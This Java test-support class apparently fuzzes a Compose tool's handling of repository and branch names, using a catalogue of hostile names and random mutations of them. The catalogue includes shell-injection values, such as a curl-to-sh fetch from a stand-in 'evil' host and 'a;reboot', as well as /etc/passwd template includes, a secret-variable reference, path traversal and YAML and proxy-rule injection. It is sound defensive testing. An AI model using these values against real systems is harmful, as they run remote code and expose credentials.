package io.github.xdevops.compose;

import java.util.List;
import java.util.Random;

/** Names of repositories and branches as somebody would choose them who means harm; most of them are valid for git. */
final class HostileNames {
    static final List<String> CATALOGUE = List.of(
            "feature/x",
            "feature-x",
            "feature_x",
            "feature.x",
            "Feature/X",
            "release/1.2.3",
            "-rf",
            "--help",
            "a;reboot",
            "$(curl${IFS}evil|sh)",
            "`reboot`",
            "$HOME",
            "${SECRET_KEY}",
            "<#include\"/etc/passwd\">",
            "[#include \"/etc/passwd\"]",
            "[=variables]",
            "a`)||Host(`admin.example.com",
            "a,b",
            "x@internal",
            "it's",
            "say\"hi\"",
            "%YAML",
            "a#b",
            "-",
            "--",
            "_",
            "İstanbul",
            "ISTANBUL",
            "日本語",
            "ß",
            "é",
            "e\u0301",
            "a\u202eb",
            "x".repeat(255),
            "x".repeat(63) + "-a",
            "x".repeat(63) + "-b",
            "0",
            "null",
            "true",
            "default",
            "traefik",
            "..",
            "MAIN",
            "main",
            "../../etc",
            "a b",
            "a\nb",
            "*",
            "acme--shop",
            "\u0085",
            "\ufeffmain",
            "main\u200b",
            "a\\b",
            "a: b",
            "- a",
            "&a",
            "!!str a",
            "a\r\nkey: value");

    private static final String ALPHABET =
            "abcxyzABCXYZ0189-_./+#@$`'\"\\<>|&;:,!?*%~^(){}[]= \n\t\u00e9\u00df\u0130\u0131\u65e5\u202e\u0085";

    private HostileNames() {}

    /** Up to so many characters; often a variation of a known one, as somebody who looks for a collision tries them. */
    static String any(Random random, int longest) {
        if (random.nextInt(4) == 0) {
            var known = CATALOGUE.get(random.nextInt(CATALOGUE.size()));
            var at = random.nextInt(known.length() + 1);
            return known.substring(0, at) + letter(random) + known.substring(at);
        }
        var text = new StringBuilder();
        for (int length = 1 + random.nextInt(longest); text.length() < length; ) {
            text.append(letter(random));
        }
        return text.toString();
    }

    private static String letter(Random random) {
        return random.nextInt(50) == 0
                ? Character.toString(0x1f600 + random.nextInt(64))
                : String.valueOf(ALPHABET.charAt(random.nextInt(ALPHABET.length())));
    }
}
